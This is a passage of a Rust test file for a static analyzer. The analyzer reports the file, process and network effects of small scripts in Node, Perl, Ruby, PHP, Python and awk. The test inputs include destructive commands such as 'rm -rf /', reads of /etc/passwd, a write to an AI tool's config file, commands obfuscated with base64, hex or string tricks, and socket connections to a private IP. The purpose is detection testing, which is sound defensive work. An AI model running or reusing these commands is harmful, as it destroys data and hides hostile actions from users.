        ("fs.rmSync(path.join(path.dirname(process.cwd()), 'x')); fs.rmSync(path.parse('/a/b').dir)", "delete ../x; delete /a"),
        ("const o = {}; o.d = '/a'; o['e'] = '/b'; fs.rmSync(o.d); fs.rmSync(o.e)", "delete /a; delete /b"),
        ("const o = { d: '/a' }; if (x) { o.d = 'b' } fs.rmSync(o.d)", "delete /a; delete b"),
        ("const [, d] = ['x', '/a']; fs.rmSync(d)", "delete /a"),
        ("const [a, [, b], c] = ['/a', ['x', '/b'], '/c']; fs.rmSync(a); fs.rmSync(b); fs.rmSync(c)", "delete /a; delete /b; delete /c"),
        ("const { X: d = process.env.HOME } = process.env; fs.rmSync(d + '/x')", "delete ?/x; delete ~/x"),
        ("const f = ({ d = '/a' } = {}) => fs.rmSync(d); f({ d: '/b' })", "delete /b"),
        ("let a = '/etc'; a += '/x'; fs.rmSync(a)", "delete /etc/x"),
        ("for (const p of ['a','b']) fs.unlinkSync(p)", "delete a; delete b"),
        ("['a','b'].forEach(p => fs.unlinkSync('d/' + p))", "delete d/a; delete d/b"),
        ("['a','b'].forEach(fs.unlinkSync)", "delete a; delete b"),
        ("['a','b'].map(function (p) { return fs.rmSync(p) })", "delete a; delete b"),
        ("Promise.all(['a','b'].map(p => fs.promises.rm(p)))", "delete a; delete b"),
        ("fs.readdirSync('d').forEach(f => fs.unlinkSync('d/' + f))", "read d; delete d/?; empty d/"),
        ("function f(p) { fs.unlinkSync(p) } f('x')", "delete x"),
        ("const f = (p, q) => { fs.renameSync(p, q) }; f('x', 'y')", "move x > y"),
        ("const f = p => fs.unlinkSync(p)\nf('x')", "delete x"),
        ("class A { go(p) { fs.unlinkSync(p) } }", "delete ?"),
        ("const p = cond ? 'a' : 'b'; fs.rmSync(p)", "delete a; delete b"),
        ("let p = 'a'; if (x) { p = 'b' } fs.rmSync(p)", "delete ?; delete a; delete b"),
        ("const o = {recursive: true}; fs.rmSync('x', o)", "tree x"),
        ("const recursive = true; fs.rmSync('x', {recursive, force: true})", "tree x"),
        ("fs.rmSync('x', opts)", "tree x"),
        ("fs.rmSync('\\x61\\u0062\\u{63}')", "delete abc"),
        ("fs.rmSync(Buffer.from('L2V0Yw==','base64').toString())", "delete /etc"),
        ("fs.rmSync(Buffer.from('2f657463','hex').toString('utf8'))", "delete /etc"),
        ("fs.rmSync(atob('L2V0Yw=='))", "delete /etc"),
        ("fs.rmSync(String.fromCharCode(47,97))", "delete /a"),
        ("fs.rmSync(['a','b'].join('/'))", "delete a/b"),
        ("fs.rmSync('cte/'.split('').reverse().join(''))", "delete /etc"),
        ("fs.rmSync('/a'.concat('/b'))", "delete /a/b"),
        ("fs.rmSync(decodeURIComponent('%2Fetc'))", "delete /etc"),
        // Processes.
        ("require('child_process').execSync('rm -rf /')", "sh rm -rf /"),
        ("require('child_process').exec('rm')", "sh rm"),
        ("const {execSync: e} = require('child_process'); e(`rm -rf ${process.env.HOME}`)", "sh rm -rf $HOME"),
        ("require('child_process').spawn('rm', ['-rf', 'x'])", "run rm,-rf,x"),
        ("require('child_process').spawnSync('rm', ['-rf', 'x'], {shell: true})", "sh rm -rf x"),
        ("require('child_process').spawn('rm -rf x', {shell: true})", "sh rm -rf x"),
        ("require('child_process').execFileSync('rm', ['x'], {stdio:'inherit'})", "run rm,x"),
        ("require('child_process').execSync('rm x', {cwd:'/etc'})", "sh cd '/etc' && { rm x\\n}"),
        ("require('child_process').fork('x.js', ['a'])", "run node,x.js,a"),
        ("const util = require('util'); util.promisify(require('child_process').exec)('id')", "sh id"),
        ("require('child_' + 'process')['ex' + 'ecSync']('id')", "sh id"),
        ("require('child_process').execSync(process.argv[1])", "sh ?!"),
        ("child_process.exec('ls', (err, out) => { fs.writeFileSync('o', out) })", "sh ls; write o"),
        // Code.
        ("eval('1')", "eval 1"),
        ("new Function('a', 'return a')()", "eval return a"),
        ("require('vm').runInNewContext('1+1')", "eval 1+1"),
        ("[].constructor.constructor('return process')()", "eval return process"),
        ("eval(x)", "eval ?!"),
        ("eval(atob('MSsx'))", "eval 1+1"),
        ("require(x)", "!"),
        ("require('./x.js')", "!"),
        ("process.binding('fs')", "!"),
        ("process.chdir('/tmp')", "cd /tmp"),
        // The network.
        ("fetch('https://a/b')", "send https://a/b"),
        ("require('https').get('https://a', r => {})", "send https://a"),
        ("http.request({hostname: 'a.b', port: 80})", "send a.b"),
        ("require('net').connect(4444, '10.0.0.1')", "send 10.0.0.1"),
        // Look-alikes.
        ("console.log('fs.unlinkSync(1)')", ""),
        ("// fs.unlinkSync('x')\n1", ""),
        ("/* fs.unlinkSync('x') */ 1", ""),
        ("console.log(`fs.rmSync('x')`)", ""),
        ("/fs.unlinkSync('x')/.exec('y')", ""),
        ("'abc'.match(/'/); const s = new Set(); s.delete('x')", ""),
        ("const m = /a/.exec('b'); m.index", ""),
        ("[1,2].filter(x => x > 1).map(x => x / 2 / 3)", ""),
        ("console.log(1+1)", ""),
        ("console.log(require('./package.json').version)", "read ./package.json!"),
        ("console.log(process.version, process.env.PATH)", ""),
        ("let d=''; process.stdin.on('data', c => d += c).on('end', () => console.log(JSON.parse(d).x))", ""),
        ("const rm = (x) => console.log(x); rm('/etc')", ""),
        ("function unlinkSync(x) { return x } unlinkSync('y')", ""),
        ("const map = new Map(); map.set('a', 1); map.delete('a')", ""),
        ("if (1) /'/.test('x'); fs.unlinkSync('y')", "delete y"),
        ("const a = 4 / 2; fs.unlinkSync('x'); const b = 1 / 2", "delete x"),
        ("const o = { a: { b: 'x' } }; fs.unlinkSync(o.a.b)", "delete x"),
        ("label: for (;;) { break label }", ""),
        ("require('os').tmpdir()", ""),
        ("const l = ['t','/x']; l.shift(); fs.unlinkSync(l[0])", "delete /x"),
        ("let l = ['t','/x']; l.reverse(); fs.unlinkSync(l[0])", "delete /x"),
        ("const l = ['t','/x']; l.sort(); fs.unlinkSync(l[0])", "delete ?; delete t; delete /x"),
        ("const l = ['t','/x']; l.splice(0, 1); fs.unlinkSync(l[0])", "delete ?; delete t; delete /x"),
        ("let l = ['t','/x']; [l[0], l[1]] = [l[1], l[0]]; fs.unlinkSync(l[0])", "delete ?; delete t; delete /x"),
        ("const l = ['t','/x']; l.indexOf('t'); fs.unlinkSync(l[1])", "delete /x"),
        ("const o = {a: 't'}; delete o.a; fs.rmSync(o.a || '/x')", "delete t; delete ?; delete /x"),
        ("fs.unlinkSync('a b'.split()[0])", "delete a b"),
        ("require('child_process').execSync('lsQ'.replace('Q', () => '; rm x'))", "sh ?!"),
        ("fs.rmSync('abcdef'.slice(1, 3)); fs.rmSync('abc'.substring(2, 0)); fs.rmSync(' x '.trim())", "delete bc; delete ab; delete x"),
        ("fs.rmSync('t' + ['a','b'].map(x => '/..').join(''))", "delete t/../.."),
        ("fs.rmSync(Buffer.from('eA==').toString('base64')); fs.rmSync((27).toString(36))", "delete ?; delete ?"),
        ("fs.rmSync(Array.from(['t'], x => '/x')[0])", "delete ?"),
    ]);
}

#[rustfmt::skip]
#[test]
fn perl() {
    check(Perl, &[
        ("unlink 'x'", "delete x"),
        ("unlink('x', \"y\")", "delete x; delete y"),
        ("unlink qw(a b);", "delete a; delete b"),
        ("unlink or die", "delete ?"),
        ("my @f = ('a', 'b'); unlink @f;", "delete a; delete b"),
        ("unlink $_ for qw(a b);", "delete a; delete b"),
        ("unlink for ('a', 'b');", "delete a; delete b"),
        ("for my $f ('a', 'b') { unlink $f }", "delete a; delete b"),
        ("foreach (qw/a b/) { unlink }", "delete a; delete b"),
        ("map { unlink $_ } qw(a b);", "delete a; delete b"),
        ("unlink glob('*.o');", "delete ?.o"),
        ("unlink <*.o>;", "delete ?.o"),
        ("my $p = '/etc'; unlink \"$p/x\";", "delete /etc/x"),
        ("my $p = '/etc'; unlink $p . '/x';", "delete /etc/x"),
        ("unlink \"$ENV{HOME}/x\"", "delete ~/x"),
        ("unlink $ENV{HOME} . '/x'", "delete ~/x"),
        ("unlink \"@{[ 'a' ]}b\"", "delete ab"),
        ("unlink \"$ARGV[0]/x\"", "delete ?/x"),
        ("my %h = (a => 'x'); unlink $h{a}", "delete x"),
        ("my @l = ('x', 'y'); unlink $l[1]", "delete y"),
        ("my $p = 'x'; $p =~ s/x/y/; unlink $p;", "delete ?"),
        ("my $p = 'x'; (my $n = $p) =~ s/x/y/; unlink $n;", "delete ?"),
        ("my $p = 'x'; unlink $p if $p =~ /x/;", "delete x"),
        ("my $p = 'x'; chop($p); unlink $p;", "delete ?"),
        ("my $p = 'x'; read(STDIN, $p, 10); unlink $p;", "delete ?"),
        ("my @l = ('x'); $l[0] = 'y'; unlink @l;", "delete ?"),
        ("rename 'a', 'b'; rmdir 'd'; mkdir 'e', 0755; chmod 0777, 'f', 'g'; symlink 'a', 'l'; chdir '/tmp'", "move a > b; delete d; mkdir e; mode f 777; mode g 777; create l; cd /tmp"),
        ("use File::Path; rmtree('x'); remove_tree('y', {safe => 1}); make_path('z')", "tree x; tree y; mkdir z"),
        ("use File::Path qw(remove_tree); remove_tree('x')", "tree x"),
        ("File::Path::rmtree('x')", "tree x"),
        ("use File::Copy; copy('a', 'b'); move 'c', 'd';", "copy a > b; move c > d"),
        ("CORE::unlink('x')", "delete x"),
        // Opening files.
        ("open(my $f, '>', 'x') or die; print $f 'y'; close $f", "write x"),
        ("open F, '>x'; print F 1", "write x"),
        ("open(F, '>>x')", "append x"),
        ("open(my $fh, '<', '/etc/passwd') || die", "read /etc/passwd"),
        ("open(F, 'x')", "read x"),
        ("open(F, '+<x')", "read x; write x"),
        ("open(F, '>:utf8', 'x')", "write x"),
        ("open(F, '|rm -rf x')", "sh rm -rf x"),
        ("open(F, 'id|')", "sh id"),
        ("open(my $p, '-|', 'rm', '-rf', 'x')", "run rm,-rf,x"),
        ("open(my $p, '|-', 'cat > x')", "sh cat > x"),
        ("open(STDOUT, '>&', 1)", ""),
        // Processes.
        ("system('rm -rf /')", "sh rm -rf /"),
        ("system 'rm', '-rf', 'x'", "run rm,-rf,x"),
        ("system(qw(rm -rf x))", "run rm,-rf,x"),
        ("my @c = ('rm', '-rf'); push @c, 'x'; system @c", "run rm,-rf,x"),
        ("exec 'rm x' if 1;", "sh rm x"),
        ("`rm x`", "sh rm x"),
        ("print `id`, qx(ls), qx{a}", "sh id; sh ls; sh a"),
        ("my $x = qx/rm $ENV{HOME}/;", "sh rm $HOME"),
        ("my $c = 'rm'; system \"$c -rf /\"", "sh rm -rf /"),
        ("system(join(' ', 'rm', '-rf', '/'))", "sh rm -rf /"),
        ("system(pack('H*', '726d2078'))", "sh rm x"),
        ("system(chr(105).chr(100))", "sh id"),
        ("use MIME::Base64; system(decode_base64('aWQ='))", "sh id"),
        ("system(scalar reverse 'di')", "sh di; sh id"),
        ("system $ARGV[0]", "sh ?!"),
        ("&system('id')", "sh id"),
        ("s/x/system('id')/e", "sh id"),
        ("s{x}{unlink 'y'}gex", "delete y"),
        ("eval 'unlink 1'", "eval unlink 1"),
        ("eval { unlink 'x' }; die if $@", "delete x"),
        ("eval $x", "eval ?!"),
        ("use File::Basename; use Cwd; unlink(dirname(getcwd()) . '/x');", "delete ../x"),
        ("do 'x.pl'", "read x.pl!"),
        ("sub f { my ($p) = @_; unlink $p } f('x');", "delete x"),
        ("sub f { my $p = shift; unlink $p } f('x');", "delete x"),
        ("sub f { unlink $_[0] } f('x');", "delete x"),
        ("my $h = {a => 'x'}; unlink $h->{a}; my $l = ['p','q']; unlink @$l", "delete x; delete p; delete q"),
        ("opendir(D, '.'); foreach my $f (readdir D) { unlink \"./$f\" if $f =~ /\\.o$/; }", "read .; delete ./?"),
        ("my ($a, $b) = ('x', 'y'); rename $a => $b;", "move x > y"),
        ("use POSIX; POSIX::unlink('x'); POSIX::_exit(0);", "delete x"),
        ("s{(.*)}{`$1`}e; print;", "sh ?!"),
        ("my $f = sub { unlink shift }; $f->('x');", "delete x"),
        ("use IPC::Open3; open3(my $a, my $b, my $c, 'rm', 'x')", "run rm,x"),
        ("system(<<EOT);\nrm x\nEOT\nunlink 'y'", "sh rm x\\n; delete y"),
        ("use LWP::Simple; getprint('http://a')", "send http://a"),
        ("use Foo; foo('x')", "!"),
        // Look-alikes.
        ("print 'unlink \"x\"'", ""),
        ("# unlink 'x'\nprint 1", ""),
        ("print qq{system('rm')}", ""),
        ("s/unlink//; tr/a/b/; y/c/d/", ""),
        ("if (/system('rm')/) { print }", ""),
        ("while (<>) { print if /x/ }", ""),
        ("print join(',', map { $_ * 2 } 1..3)", ""),
        ("my %h; $h{unlink} = 1; print $h{system}", ""),
        ("$x = $a / 2; $y = $b / 3; print", ""),
        ("=pod\n\nunlink 'x'\n\n=cut\nprint 1", ""),
        ("my $x\n=pod\n; unlink 'x'", "delete x"),
        ("$h{a}\n=head(unlink 'x');", "delete x"),
        ("print <<'E';\nunlink 'x'\nE\n", ""),
        ("BEGIN { $/ = undef } print length", ""),
        ("$h{y} = 1; print q(x) . $s->{s}", ""),
        ("@F = split /,/; print $F[0]", ""),
        ("__END__\nunlink 'x'", ""),
        ("my @l = ('t', '/x'); shift @l; unlink $l[0];", "delete ?; delete t; delete /x"),
    ]);
}

#[rustfmt::skip]
#[test]
fn ruby() {
    check(Ruby, &[
        ("File.delete('x', 'y')", "delete x; delete y"),
        ("File.unlink \"x\"", "delete x"),
        ("File::delete('x')", "delete x"),
        ("require 'fileutils'; FileUtils.rm_rf('x')", "tree x"),
        ("FileUtils.rm_rf %w[a b]", "tree a; tree b"),
        ("FileUtils.rm(['a', 'b'], force: true)", "delete a; delete b"),
        ("include FileUtils; rm_rf 'x'", "tree x"),
        ("FileUtils.mkdir_p 'a/b'; FileUtils.cp 'a', 'b'; FileUtils.mv('c','d'); FileUtils.touch 't'", "mkdir a/b; copy a > b; move c > d; create t"),
        ("File.write('~/.codex/config.toml','')", "write ~/.codex/config.toml"),
        ("File.write('x', 'y', mode: 'a')", "append x"),
        ("File.open('x', 'w') { |f| f.puts 'File.delete(1)' }", "write x"),
        ("File.open('x') do |f|\n  File.delete('y')\nend", "read x; delete y"),
        ("puts File.read('/etc/passwd')", "read /etc/passwd"),
        ("IO.write('x', 1); IO.read('y')", "write x; read y"),
        ("open('|rm x')", "sh rm x"),
        ("IO.read('|id')", "sh id"),
        ("File.rename 'a', 'b'; File.chmod(0777, 'x'); File.symlink('a', 'l')", "move a > b; mode x 777; create l"),
        ("Dir.mkdir 'd'; Dir.rmdir('e'); Dir.chdir '/tmp'", "mkdir d; delete e; cd /tmp"),
        ("Dir.chdir('/etc') { File.delete 'x' }", "cd /etc; delete x; cd ?"),
        ("Dir.glob('*.o').each { |f| File.delete f }", "delete ?.o"),
        ("Dir['tmp/*'].each do |f| File.delete(f) end", "delete tmp/?; empty tmp/"),
        ("%w[a b].each { |f| File.delete \"d/#{f}\" }", "delete d/a; delete d/b"),
        ("for f in ['a', 'b'] do File.delete f end", "delete a; delete b"),
        ("x = 'a'; File.delete x + '/b'", "delete a/b"),
        ("File.delete(File.join(Dir.home, 'x'))", "delete ~/x"),
        ("File.delete(\"#{ENV['HOME']}/x\")", "delete ~/x"),
        ("File.delete(File.expand_path('~/x'))", "delete ~/x"),
        ("File.delete ENV.fetch('HOME') + '/x'", "delete ~/x"),
        ("File.delete(ARGV[0])", "delete ?"),
        ("require 'pathname'; Pathname.new('x').delete", "delete x"),
        ("Pathname('a').join('b').rmtree", "tree a/b"),
        ("system('rm -rf /')", "sh rm -rf /"),
        ("system 'rm', '-rf', 'x'", "run rm,-rf,x"),
        ("system({'A'=>'1'}, 'rm x', exception: true)", "sh rm x"),
        ("system('rm x', chdir: '/etc')", "sh cd '/etc' && { rm x\\n}"),
        ("exec 'rm', 'x'", "run rm,x"),
        ("`rm x`", "sh rm x"),
        ("puts %x(id)", "sh id"),
        ("spawn 'rm x'", "sh rm x"),
        ("Kernel.system('id')", "sh id"),
        ("Kernel.send(:system, 'id')", "sh id"),
        ("send('sys' + 'tem', 'id')", "sh id"),
        ("Object.const_get('File').delete('x')", "delete x"),
        ("File.method(:delete).call('x')", "delete x"),
        ("require 'open3'; Open3.capture2e('rm', 'x')", "run rm,x"),
        ("IO.popen('id').read", "sh id"),
        ("IO.popen(['rm', 'x'])", "run rm,x"),
        ("eval('1')", "eval 1"),
        ("instance_eval 'x'", "eval x"),
        ("eval x", "eval ?!"),
        ("require 'base64'; system(Base64.decode64('aWQ='))", "sh id"),
        ("system(['726d2078'].pack('H*'))", "sh rm x"),
        ("system('di'.reverse)", "sh id"),
        ("x = 'rm'; x << ' -rf /'; system x", "sh rm -rf /"),
        ("x = 'rm'; x.concat(' y'); system x", "sh ?!"),
        ("['a','b'].each(&File.method(:delete))", "delete a; delete b"),
        ("{'a' => 'x'}.each { |k, v| File.delete v }", "delete x"),
        ("trap('INT') { system 'rm x' }; at_exit { File.delete 'y' }", "sh rm x; delete y"),
        ("def f(p)\n  File.delete(p)\nend\nf('x')", "delete x"),
        ("f = ->(p) { File.delete(p) }; f.call('x')", "delete x"),
        ("File.delete(<<~E.strip)\n  x\nE\n", "delete x"),
        ("load 'x.rb'", "read x.rb!"),
        ("require 'net/http'; Net::HTTP.get(URI('http://a'))", "send http://a"),
        ("require 'open-uri'; URI.open('http://a')", "send http://a"),
        ("require 'foo'; Foo.go", "!"),
        // Look-alikes.
        ("puts 'File.delete(1)'", ""),
        ("# File.delete('x')\nputs 1", ""),
        ("puts \"system('rm')\"", ""),
        ("[1].delete(1); {a: 1}.delete(:a)", ""),
        ("'a'.delete('b'); x = 'system'", ""),
        ("puts [1,2].map { |x| x * 2 }.inspect", ""),
        ("=begin\nFile.delete('x')\n=end\nputs 1", ""),
        ("puts :system, {system: 1}", ""),
        ("puts File.exist?('x'), File.basename('a/b')", ""),
        ("FileUtils.rm_rf(File.join(File.dirname(Dir.pwd), 'x'))", "tree ../x"),
        ("puts $stdin.read.scan(/rm/)", ""),
        ("if x then puts 1 else puts 2 end", ""),
        ("__END__\nFile.delete('x')", ""),
        ("a = ['t','/x']; a.shift; File.delete a[0]", "delete /x"),
        ("a = ['t','/x']; a.rotate!; File.delete a[0]", "delete ?; delete t; delete /x"),
        ("system('ls;rm x'[3, 4])", "sh ?!"),
        ("system('crm cx'.delete('c-z'))", "sh ?!"),
        ("system('rm xyz'.slice(0, 4))", "sh rm x"),
        ("system('a-b'.tr('-', ' '))", "sh a b"),
        ("File.delete('t,/x'.split(',')[1])", "delete /x"),
        ("Dir['*.a', '*.b'].each { |f| File.delete f }", "delete ?.a; delete ?.b"),
    ]);
}

#[rustfmt::skip]
#[test]
fn php() {
    check(Php, &[
        ("unlink('x');", "delete x"),
        ("<?php unlink('x'); ?> unlink('y'); <?= unlink('z') ?>", "delete x; delete z"),
        ("UnLink(\"x\");", "delete x"),
        ("\\unlink('x');", "delete x"),
        ("@unlink('x');", "delete x"),
        ("$p = '/etc'; unlink(\"$p/x\"); unlink(\"{$p}/y\"); unlink($p . '/z');", "delete /etc/x; delete /etc/y; delete /etc/z"),
        ("file_put_contents('x', 'y'); file_put_contents('z', 'y', FILE_APPEND);", "write x; append z"),
        ("fopen('x', 'w'); fopen('y', 'r'); fopen('z', 'a'); fopen('php://stdin', 'r');", "write x; read y; append z"),
        ("echo file_get_contents('/etc/passwd');", "read /etc/passwd"),
        ("file_get_contents('http://a/b');", "send http://a/b"),
        ("rename('a','b'); copy('c','d'); mkdir('e'); rmdir('f'); chmod('g', 0777); symlink('a','l'); touch('t');", "move a > b; copy c > d; mkdir e; delete f; mode g 777; create l; create t"),
        ("foreach (['a','b'] as $f) unlink($f);", "delete a; delete b"),
        ("foreach (['x' => 'a'] as $k => $f) { unlink($f); }", "delete a"),
        ("foreach (glob('*.o') as $f) unlink($f);", "delete ?.o"),
        ("$p = 'x'; $q = &$p; $q = 'y'; unlink($p);", "delete x; delete ?"),
        ("$p = 'x'; preg_match('/a/', 'b', $p); unlink($p[0]);", "delete ?"),
        ("function f(&$x) { $x = 'y'; } $p = 'x'; f($p); unlink($p);", "delete ?"),
        ("$p = 'x'; if ($c) $p = 'y'; unlink($p);", "delete ?; delete x; delete y"),
        ("array_map('unlink', ['a', 'b']);", "delete a; delete b"),
        ("array_map('unlink', glob('*.o'));", "delete ?.o"),
        ("unlink(getenv('HOME') . '/x'); unlink($_SERVER['HOME'] . '/y');", "delete ~/x; delete ~/y"),
        ("unlink($argv[1]);", "delete ?"),
        ("unlink(__DIR__ . '/x');", "delete ./x"),
        ("unlink(dirname(getcwd()) . '/x'); unlink(dirname('/a/b/c', 2));", "delete ../x; delete /a"),
        ("system('rm -rf /');", "sh rm -rf /"),
        ("exec('a', $out); shell_exec('b'); passthru('c'); popen('d', 'r'); `e`;", "sh a; sh b; sh c; sh d; sh e"),
        ("$f = 'system'; $f('id');", "sh id"),
        ("('sys'.'tem')('id');", "sh id"),
        ("call_user_func('system', 'id'); call_user_func_array('exec', ['ls']);", "sh id; sh ls"),
        ("proc_open(['rm','x'], [], $p); proc_open('rm y', [], $p);", "run rm,x; sh rm y"),
        ("pcntl_exec('/bin/rm', ['x']);", "run /bin/rm,x"),
        ("system(base64_decode('aWQ='));", "sh id"),
        ("system(strrev('di')); system(hex2bin('6964')); system(chr(105).chr(100));", "sh id; sh id; sh id"),
        ("eval('unlink(1);');", "eval unlink(1);"),
        ("eval($x);", "eval ?!"),
        ("$r = new ReflectionFunction('system'); $r->invoke('id');", "sh id"),
        ("$x = 'sys' . 'tem'; $x('id'); $y = 'un'; $y .= 'link'; $y('z');", "sh id; delete z"),
        ("$a = ['rm', 'x']; $a[] = 'y'; system(implode(' ', $a));", "sh rm x y"),
        ("preg_replace_callback('/x/', function($m) { return exec($m[0]); }, 'x');", "sh ?!"),
        ("$f($x);", "!"),
        ("include 'x.php';", "read x.php!"),
        ("function f($p) { unlink($p); } f('x');", "delete x"),
        ("$f = function ($p) use ($q) { unlink($p); }; $f('x');", "delete x"),
        ("$f = fn($p) => unlink($p); $f('x');", "delete x"),
        ("system(<<<EOT\nrm x\nEOT\n);", "sh rm x\\n"),
        ("curl_init('http://a'); curl_setopt($c, CURLOPT_URL, 'http://b');", "send http://a; send http://b"),
        ("if (file_exists('x')) { unlink('x'); }", "delete x"),
        ("chdir('/tmp'); unlink('x');", "cd /tmp; delete x"),
        // Look-alikes.
        ("echo 'unlink(1)';", ""),
        ("// unlink('x')\n# unlink('y')\n/* unlink('z') */ echo 1;", ""),
        ("$a->unlink('x'); $db->exec('DELETE FROM x');", ""),
        ("echo json_encode(['system' => 'x']);", ""),
        ("echo phpversion();", ""),
        ("$system = 'x'; echo $system;", ""),
        ("system(trim('zrm xz', 'z'));", "sh ?!"),
        ("unlink(trim(' x ')); unlink(basename('a/b.txt')); unlink(basename('a/b.txt', '.txt'));", "delete x; delete b.txt; delete ?"),
        ("$l = ['t', '/x']; array_shift($l); unlink($l[0]);", "delete ?"),
        ("system(urldecode('rm+x'));", "sh rm x"),
    ]);
}

#[rustfmt::skip]
#[test]
fn a_script_knows_where_it_stands() {
    let cases = [
        (Node, "fs.rmSync(__dirname + '/x'); fs.rmSync(__filename)", "delete /w/bin/x; delete /w/bin/s"),
        (Node, "fs.rmSync(path.join(__dirname, '..'), { recursive: true })", "tree /w"),
        (Node, "fs.rmSync(path.resolve(import.meta.dirname, '../build'), { recursive: true })", "tree /w/build"),
        (
            Node,
            "import { fileURLToPath } from 'url'\nimport fs from 'fs'\nimport path from 'path'\n\
             fs.rmSync(path.dirname(path.dirname(fileURLToPath(import.meta.url))), { recursive: true })",
            "tree /w",
        ),
        (Python, "import os\nos.remove(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'x'))", "delete /w/bin/x"),
        (
            Python,
            "import shutil\nfrom pathlib import Path\nshutil.rmtree(Path(__file__).resolve().parent.parent / 'build')",
            "tree /w/build",
        ),
        (Ruby, "FileUtils.rm_rf(File.expand_path('..', __dir__))", "tree /w"),
        (Php, "unlink(__DIR__ . '/x'); unlink(dirname(__FILE__, 2) . '/y');", "delete /w/bin/x; delete /w/y"),
        // URLs are not put together, and what is relative to where the script was started may be anywhere.
        (Node, "fs.rmSync(new URL('../x', import.meta.url))", "delete ?"),
        (Node, "fs.rmSync(fileURLToPath(new URL('..', import.meta.url)), { recursive: true })", "tree ?"),
        (Node, "fs.rmSync(new URL('file:///etc/x')); fs.rmSync(new URL('/etc/x', 'file:///w/'))", "delete ?; delete ?"),
        (Ruby, "File.delete(__FILE__)", "delete ?"),
        (Perl, "unlink $0; unlink __FILE__", "delete ?; delete ?"),
    ];
    let at = |origin| Setting::of(origin);
    for (language, script, expected) in cases {
        // Where paths are put together they are made plain, too.
        let effects = render_in(language, script, at(Origin::File("/w/bin/s".to_owned())));
        let plain = |word: &str| if word.starts_with('/') { absolute(word, "/") } else { word.to_owned() };
        let effects = effects.split("; ").map(|effect| effect.split(' ').map(plain).collect::<Vec<_>>().join(" "));
        assert_eq!(effects.collect::<Vec<_>>().join("; "), expected, "{script}");
        let unknown = render_in(language, script, at(Origin::Unknown));
        assert!(unknown.contains('?') && !unknown.contains("/w"), "{script}: {unknown}");
    }
}

/// What is done to any argument, and never to those alone: which is which cannot be told.
#[test]
fn a_script_knows_its_arguments() {
    let both = "delete /a; delete b; delete ?";
    let cases = [
        (Python, "import sys, os\nos.remove(sys.argv[1])", both),
        (Python, "import sys, os\nfor p in sys.argv[1:]:\n    os.remove(p)", both),
        (Python, "import sys, os\n_, a, b = sys.argv\nos.remove(b)", both),
        (Python, "import sys, os\nos.remove(sys.argv[-1])", both),
        (Python, "import sys, os\nos.system('rm ' + sys.argv[1])", "sh rm /a; sh rm b; sh rm ?"),
        (Python, "import sys, os\na = sys.argv\na[1] = '/etc'\nos.remove(sys.argv[1])", both),
        (
            Python,
            "import sys, os\nfor p in sys.argv[1:] or ['/etc']:\n    os.remove(p)",
            "delete /a; delete b; delete ?; delete /etc",
        ),
        (Node, "fs.rmSync(process.argv[2])", both),
        (Node, "for (const f of process.argv.slice(2)) fs.unlinkSync(f)", both),
        (Node, "const [,, dir] = process.argv; fs.rmSync(dir)", both),
        (Ruby, "File.delete(ARGV[0])", both),
        (Ruby, "File.delete(ARGV.first)", both),
        (Ruby, "ARGV.drop(1).each { |f| File.delete(f) }", both),
        (Perl, "unlink $ARGV[1]", both),
        (Perl, "my $f = shift; unlink $f", both),
        (Perl, "my $f = shift(); unlink $f", both),
        (Perl, "my ($f) = @ARGV; unlink $f", both),
        (Perl, "shift @ARGV if $ARGV[0] eq '-n'; unlink $ARGV[0]", both),
        (Perl, "while (my $f = shift @ARGV) { unlink $f }", both),
        (Php, "unlink($argv[1]);", both),
    ];
    for (language, script, expected) in cases {
        assert_eq!(with_arguments(language, script, "/a b"), expected, "{script}");
        assert_eq!(with_arguments(language, script, "").matches("/a").count(), 0, "{script}");
    }
}

fn with_arguments(language: Language, script: &str, words: &str) -> String {
    let all = words.split_whitespace().map(|word| Text::Known(word.to_owned())).collect();
    render_in(language, script, Setting { arguments: Some(Arguments(all)), ..Setting::of(Origin::Unknown) })
}

#[test]
fn what_argparse_makes_of_arguments() {
    const BEGIN: &str = "import argparse, os\np = argparse.ArgumentParser()\n";
    let cases = [
        ("p.add_argument('d')\na = p.parse_args()\nos.remove(a.d)", "/a", "delete /a; delete ?"),
        (
            "p.add_argument('-o', '--out-dir')\np.add_argument('--keep')\na = p.parse_args()\nos.remove(a.out_dir)",
            "--keep /k --out-dir=/a -o /b -o/c --out /d",
            "delete /a; delete /b; delete /c; delete /d; delete ?",
        ),
        (
            "p.add_argument('f', nargs='+')\nfor f in p.parse_args().f:\n    os.remove(f)",
            "/a /b",
            "delete /a; delete /b; delete ?",
        ),
        ("a = unknown().parse_args()\nos.remove(a.out)", "--out /a --keep /k", "delete /a; delete ?"),
        // What is called on each.
        ("p.add_argument('f', type=os.remove)\np.parse_args()", "/a", "delete /a; delete ?!"),
    ];
    for (script, words, expected) in cases {
        assert_eq!(with_arguments(Python, &format!("{BEGIN}{script}"), words), expected, "{script}");
    }
}

#[test]
fn awk() {
    check(
        Awk,
        &[
            ("{print $1}", ""),
            ("{print > \"f\"}", "write f"),
            ("{print $1, $2 >> \"f\"}", "append f"),
            ("BEGIN{printf \"%s\", \"x\" > \"a\" \"b\"}", "write ab"),
            ("{print > $1\".txt\"}", "write ?.txt"),
            ("{print > (\"d/\" $1)}", "write d/?"),
            ("{f = \"out/\" $1; print > f}", "write out/?"),
            ("BEGIN{f = \"out\"} {print > f}", "write out"),
            ("BEGIN{system(\"rm -rf /\")}", "sh rm -rf /"),
            ("{system(\"rm \" $1)}", "sh rm ?"),
            ("{ system($0) }", "sh ?!"),
            ("BEGIN{c = \"rm -rf /\"; system(c)}", "sh rm -rf /"),
            ("BEGIN{c = \"ls \" ENVIRON[\"HOME\"]; while ((c | getline l) > 0) print l; close(c)}", "sh ls $HOME"),
            ("{system($1 > 5 ? \"a\" : \"b\" $2)}", "sh a; sh b?"),
            ("function f(x) { system(x) } { f(\"rm \" $1) }", "sh ?!"),
            ("$3 > 1000 { print $1 > \"u\"; close(\"u\") }", "write u"),
            ("{print | \"sort\"}", "sh sort"),
            ("{print $0 | \"sh\"}", "sh sh"),
            ("BEGIN{\"date\" | getline d; print d}", "sh date"),
            ("BEGIN{while ((\"ls\" | getline x) > 0) print x}", "sh ls"),
            ("BEGIN{while ((getline line < \"/etc/passwd\") > 0) print line}", "read /etc/passwd"),
            ("BEGIN{getline < \"f\"}", "read f"),
            ("BEGIN{print \"x\" > ENVIRON[\"HOME\"] \"/f\"}", "write ~/f"),
            ("BEGIN{s=\"/inet/tcp/0/10.0.0.1/99\"; print \"x\" |& s}", "send /inet/tcp/0/10.0.0.1/99"),
            ("BEGIN { print \"\\x2fetc\" > \"\\057tmp\" }", "write /tmp"),
